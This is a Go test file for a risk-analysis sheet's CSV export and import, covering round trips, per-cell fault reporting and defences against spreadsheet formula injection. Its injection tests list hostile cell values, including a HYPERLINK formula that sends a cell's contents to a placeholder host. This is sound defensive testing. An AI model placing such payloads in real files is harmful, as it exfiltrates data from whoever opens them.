package risk_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	hipaasmp "github.com/hipaasmp/hipaasmp"
	"github.com/hipaasmp/hipaasmp/internal/long"
	"github.com/hipaasmp/hipaasmp/risk"
)

func written(t require.TestingT, s risk.Sheet) string {
	var b bytes.Buffer
	require.NoError(t, s.WriteCSV(&b))
	return b.String()
}

// csvFaults returns what is wrong with a file.
func csvFaults(t require.TestingT, err error) []risk.CSVFault {
	var all *risk.CSVError
	require.True(t, errors.As(err, &all), "%v", err)
	require.NotEmpty(t, all.Faults)
	return all.Faults
}

func TestSheetGoesOutAndComesBackTheSame(t *testing.T) {
	t.Parallel()
	for _, s := range []risk.Sheet{analysis(t).Sheet(), draft(t).Sheet(), ownAnalysis(t).Sheet(), nil} {
		file := written(t, s)
		back, err := risk.ReadSheet(strings.NewReader(file))
		require.NoError(t, err)
		require.Equal(t, s, back)
		require.Equal(t, file, written(t, back))
	}
	s := analysis(t).Sheet()
	require.Equal(t, []string{"F-2", "F-1", "F-3"}, []string{s[0].Finding.ID, s[1].Finding.ID, s[2].Finding.ID}, "ranked as in the register")
	require.Equal(t, analysis(t).Register().Rows[0], s[0].Row)
	require.Len(t, s.Findings(), 3)
	require.Contains(t, written(t, s), "EHR in the cloud; Billing service", "a person reads names")
}

func TestAnySheetGoesOutAndComesBackTheSame(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		s := anyDraft(t).Draw(rt, "draft").Sheet()
		file := written(rt, s)
		back, err := risk.ReadSheet(strings.NewReader(file))
		require.NoError(rt, err)
		require.Equal(rt, file, written(rt, back))
		for i, x := range back.Findings() {
			want, err := hipaasmp.Canonical(holding(t, s[i].Finding))
			require.NoError(rt, err)
			got, err := hipaasmp.Canonical(holding(t, x))
			require.NoError(rt, err)
			require.Equal(rt, string(want), string(got))
		}
		for i := range back {
			// An empty list and an absent one are one in a file.
			back[i].Finding, s[i].Finding = risk.Finding{}, risk.Finding{}
		}
		require.Equal(rt, s, back)
	})
}

// holding is a draft that holds one finding with whatever it names.
func holding(t testing.TB, x risk.Finding) risk.Draft {
	d := draft(t)
	add := func(ids []string, do func(id string)) {
		for _, id := range ids {
			do(id)
		}
	}
	d.Threats, d.Vulnerabilities, d.Safeguards, d.Findings = nil, nil, nil, []risk.Finding{x}
	d.Inventory = risk.Inventory{}
	add(x.Assets, func(id string) {
		d.Inventory.Assets = append(d.Inventory.Assets, risk.Asset{ID: id, Name: id, Class: risk.AssetClassMobile, Handles: []risk.Handling{risk.HandlingNone}})
	})
	add([]string{x.Threat}, func(id string) {
		d.Threats = append(d.Threats, risk.Threat{ID: id, Source: risk.ThreatSourceAccidental, Event: id})
	})
	if x.Vulnerability != "" {
		d.Vulnerabilities = append(d.Vulnerabilities, risk.Vulnerability{ID: x.Vulnerability, Title: "x", Severity: na})
	}
	add(x.Conditions, func(id string) {
		d.Conditions = append(d.Conditions, risk.Condition{ID: id, Title: id, Pervasiveness: na})
	})
	add(x.Safeguards, func(id string) {
		d.Safeguards = append(d.Safeguards, risk.Safeguard{ID: id, Title: id, Effectiveness: risk.EffectivenessNotAssessed})
	})
	return d
}

// lineWith is a sheet of one finding with texts wherever a finding and its row have some.
func lineWith(t testing.TB, text string) risk.Sheet {
	t.Helper()
	s := analysis(t).Sheet()[:1]
	s[0].Finding.Title, s[0].Row.Title = text, text
	s[0].Row.Assets, s[0].Row.Safeguards = []string{text, text}, []string{"x", text}
	s[0].Row.Threat, s[0].Row.Vulnerability = text, text
	s[0].Finding.Current.Rationale = text
	return s
}

// attacks are the places at which some spreadsheet would begin a cell with a formula.
func attacks(file string) []string {
	var out []string
	for _, cell := range strings.FieldsFunc(file, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n\"", r) }) {
		if cell = strings.TrimLeft(cell, " "); cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
			out = append(out, cell)
		}
	}
	return out
}

func TestNoCellRunsAsAFormula(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`=HYPERLINK("http://x/?"&A1,"click")`, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1", " =1", "  +1", "＝1", "－1",
		"'=1", "''=1", "'quoted'", "it's", "a;=1", "a; =1", "a,=1", "a|@x", "a\t-1", "a\n+1", `a"=1`, `a;"=1"`, "a;'=1", "x - y", "2 = 2", "'", "''", "-", "=",
	} {
		s := lineWith(t, text)
		file := written(t, s)
		require.Empty(t, attacks(file), "%q", text)
		back, err := risk.ReadSheet(strings.NewReader(file))
		require.NoError(t, err, "%q", text)
		require.Equal(t, s, back, "%q", text)
	}
	require.Contains(t, written(t, lineWith(t, "x - y, it's 2 = 2")), "x - y, it's 2 = 2", "plain prose stays as it is")
	require.Contains(t, written(t, lineWith(t, "=1")), ",'=1,")
}

func TestNoCellRunsAsAFormulaWhateverTheTextAndNothingIsLost(t *testing.T) {
	t.Parallel()
	hostile := rapid.StringOfN(rapid.SampledFrom([]rune("=+-@＝－'\"\t\n;,| \\a")), 0, 12, -1)
	rapid.Check(t, func(rt *rapid.T) {
		for range long.Count(1, 20) {
			text := hostile.Draw(rt, "text")
			if !hipaasmp.ValidText(text) {
				text += "x"
			}
			s := lineWith(t, text)
			file := written(rt, s)
			require.Empty(rt, attacks(file))
			back, err := risk.ReadSheet(strings.NewReader(file))
			require.NoError(rt, err)
			require.Equal(rt, s, back)
		}
	})
}

// change edits one cell of the clinic's sheet, by line from 2 and column.
func change(t testing.TB, line int, column, cell string) string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(written(t, analysis(t).Sheet()))).ReadAll()
	require.NoError(t, err)
	at := slices.Index(records[0], column)
	require.GreaterOrEqual(t, at, 0, column)
	records[line-1][at] = cell
	return render(t, records)
}

func render(t testing.TB, records [][]string) string {
	var b bytes.Buffer
	require.NoError(t, csv.NewWriter(&b).WriteAll(records))
	return b.String()
}

func TestReadSheetNamesLineAndColumnOfEveryFault(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		rule, column, cell string
	}{
		{"an unknown level", "acceptable_level", "critical"},
		{"a level that is NaN", "current_level", "NaN"},
		{"a level in capitals", "current_impact", "HIGH"},
		{"a level typed over the score", "current", "low"},
		{"an impact typed over the score", "impact", "low"},
		{"a likelihood typed over the score", "likelihood", "low"},
		{"a rank that is no number", "rank", "first"},
		{"a rank below one", "rank", "0"},
		{"an identity with a blank", "finding", "F 1"},
		{"no identity", "finding", ""},
		{"no title", "title", ""},
		{"a title of blanks", "title", "  "},
		{"a control character", "title", "a\x01"},
		{"no text in UTF-8", "title", "a\xff"},
		{"a list that ends in a backslash", "asset_names", `a\`},
		{"a list without a space", "assets", "a;b"},
		{"a list of an identity that is none", "assets", "a; b c"},
		{"a list of a name that is blank", "asset_names", "a;  "},
		{"neither true nor false", "integrity", "yes"},
		{"an unknown exposure", "exposure", "fine"},
		{"an unknown source", "source", "bad luck"},
		{"a reference to nothing", "analysis", "ra-2026"},
		{"a reference with version 0", "analysis", "risk.analysis/ra-2026@0"},
		{"a score without its scale", "current_scale", ""},
		{"a score without its digest", "current_scale_digest", ""},
		{"a digest that is none", "current_scale_digest", "abc"},
		{"a score of nobody", "current_by", ""},
		{"a role with capitals", "current_role", "Boss"},
		{"a time with a zone", "current_at", "2026-03-02T15:00:00+01:00"},
		{"a time in nanoseconds", "current_at", "2026-03-02T15:00:00.000000001Z"},
		{"no time", "current_at", ""},
	} {
		got, err := risk.ReadSheet(strings.NewReader(change(t, 2, c.column, c.cell)))
		require.Nil(t, got, c.rule)
		all := csvFaults(t, err)
		require.True(t, slices.ContainsFunc(all, func(f risk.CSVFault) bool { return f.Line == 2 && f.Column == c.column && f.Message != "" }), "%s: %v", c.rule, all)
	}
	records, err := csv.NewReader(strings.NewReader(written(t, analysis(t).Sheet()))).ReadAll()
	require.NoError(t, err)
	for i := 1; i < len(records); i++ {
		records[i][slices.Index(records[0], "integrity")] = "yes"
		records[i][slices.Index(records[0], "rank")] = "x"
	}
	_, err = risk.ReadSheet(strings.NewReader(render(t, records)))
	require.Len(t, csvFaults(t, err), 6, "all faults at once")
	require.ErrorContains(t, err, "line 2, column rank")
	require.ErrorContains(t, err, "and 3 more")
	var one risk.CSVFault
	require.True(t, errors.As(err, &one))
}

func TestReadSheetChecksTheHeader(t *testing.T) {
	t.Parallel()
	file := written(t, analysis(t).Sheet())
	for _, c := range []struct{ rule, from, to, column string }{
		{"a column missing", ",title,", ",", "title"},
		{"a column twice", ",title,", ",title,title,", "title"},
		{"a column that is not known", ",title,", ",title,notes,", "notes"},
		{"a column in capitals", ",title,", ",Title,", "title"},
	} {
		_, err := risk.ReadSheet(strings.NewReader(strings.Replace(file, c.from, c.to, 1)))
		all := csvFaults(t, err)
		require.True(t, slices.ContainsFunc(all, func(f risk.CSVFault) bool { return f.Line == 1 && f.Column == c.column }), "%s: %v", c.rule, all)
	}
	_, err := risk.ReadSheet(strings.NewReader(""))
	require.Equal(t, 1, csvFaults(t, err)[0].Line)
}

func TestReadSheetReadsWhatASpreadsheetSavedAgain(t *testing.T) {
	t.Parallel()
	s := analysis(t).Sheet()
	records, err := csv.NewReader(strings.NewReader(written(t, s))).ReadAll()
	require.NoError(t, err)
	for _, r := range records {
		slices.Reverse(r)
		for i, cell := range r {
			if cell == "true" || cell == "false" {
				r[i] = strings.ToUpper(cell)
			}
		}
	}
	file := "\xef\xbb\xbf" + strings.ReplaceAll(render(t, records), "\n", "\r\n")
	back, err := risk.ReadSheet(strings.NewReader(file))
	require.NoError(t, err)
	require.Equal(t, s, back)
}

func TestReadSheetRefusesBrokenLines(t *testing.T) {
	t.Parallel()
	file := written(t, analysis(t).Sheet())
	lines := strings.SplitAfter(file, "\n")
	_, err := risk.ReadSheet(strings.NewReader(lines[0] + lines[1] + "a,b\n" + lines[2] + lines[1]))
	all := csvFaults(t, err)
	require.Len(t, all, 2)
	require.Equal(t, 3, all[0].Line)
	require.Contains(t, all[0].Message, "has 2 cells")
	require.Equal(t, risk.CSVFault{Line: 5, Column: "finding", Message: `"F-2" stands twice; keep one line a finding`}, all[1])
	_, err = risk.ReadSheet(strings.NewReader(lines[0] + `a"b,` + "\n" + lines[2] + `"never closed`))
	all = csvFaults(t, err)
	require.Len(t, all, 2, "it goes on after a broken line")
	require.Equal(t, 2, all[0].Line)
	require.Contains(t, all[0].Message, "is no CSV at character")
	_, err = risk.ReadSheet(io.MultiReader(strings.NewReader(lines[0]), iotest.ErrReader(io.ErrUnexpectedEOF)))
	require.ErrorIs(t, err, io.ErrUnexpectedEOF, "what the reader says comes through")
}

func TestAFloodOfFaultsIsCounted(t *testing.T) {
	t.Parallel()
	header, _, _ := strings.Cut(written(t, nil), "\n")
	_, err := risk.ReadSheet(strings.NewReader(header + "\n" + strings.Repeat("x\n", 1500)))
	var all *risk.CSVError
	require.True(t, errors.As(err, &all))
	require.Len(t, all.Faults, 1000)
	require.Equal(t, 500, all.LeftOut)
	require.ErrorContains(t, err, "and 1497 more")
}

func TestWriteCSVRefusesWhatWouldNotComeBack(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		rule   string
		edit   func(*risk.SheetLine)
		column string
	}{
		{"a carriage return", func(l *risk.SheetLine) { l.Finding.Title = "a\r\nb" }, "title"},
		{"no text in UTF-8", func(l *risk.SheetLine) { l.Row.Threat = "a\xff" }, "threat_event"},
		{"a blank entry of a list", func(l *risk.SheetLine) { l.Row.Assets = []string{"a", " "} }, "asset_names"},
		{"an identity that is none", func(l *risk.SheetLine) { l.Finding.Assets = []string{"a b"} }, "assets"},
		{"a level that is none", func(l *risk.SheetLine) { l.AcceptableLevel = "critical" }, "acceptable_level"},
		{"a row that is not of the finding", func(l *risk.SheetLine) { l.Row.Current = l.Row.Residual }, "current"},
		{"a rank below one", func(l *risk.SheetLine) { l.Row.Rank = -1 }, "rank"},
		{"tables that have no cell", func(l *risk.SheetLine) {
			s := inWords(t, "Rare", "Minor").WithTables(ownScale(t))
			l.Finding.Target = &s
		}, "target_scale"},
	} {
		s := analysis(t).Sheet()
		c.edit(&s[0])
		var b bytes.Buffer
		all := csvFaults(t, s.WriteCSV(&b))
		require.True(t, slices.ContainsFunc(all, func(f risk.CSVFault) bool { return f.Line == 2 && f.Column == c.column }), "%s: %v", c.rule, all)
		require.Zero(t, b.Len(), "nothing half-written: %s", c.rule)
	}
	s := analysis(t).Sheet()
	s[1].Row.Title = "not the title of the finding"
	require.ErrorContains(t, s.WriteCSV(io.Discard), `line 3: finding "F-1" would not come back`)
	require.Error(t, analysis(t).Sheet().WriteCSV(brokenWriter{}))
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

// FuzzReadSheet feeds the reader whole files, and lines below a good header, which it would hardly ever hit on.
func FuzzReadSheet(f *testing.F) {
	for _, s := range []risk.Sheet{analysis(f).Sheet()[:1], lineWith(f, "=1;'=2\n\"@x\""), ownAnalysis(f).Sheet()[2:]} {
		_, line, _ := strings.Cut(written(f, s), "\n")
		f.Add(true, []byte(line))
	}
	f.Add(false, []byte("a,b\n1,2\n"))
	header, _, _ := strings.Cut(written(f, nil), "\n")
	f.Fuzz(func(t *testing.T, below bool, data []byte) {
		if below {
			data = append([]byte(header+"\n"), data...)
		}
		s, err := risk.ReadSheet(bytes.NewReader(data))
		if err != nil {
			require.Nil(t, s)
			csvFaults(t, err)
			return
		}
		file := written(t, s)
		require.Empty(t, attacks(file))
		back, err := risk.ReadSheet(strings.NewReader(file))
		require.NoError(t, err)
		require.Equal(t, s, back)
	})
}
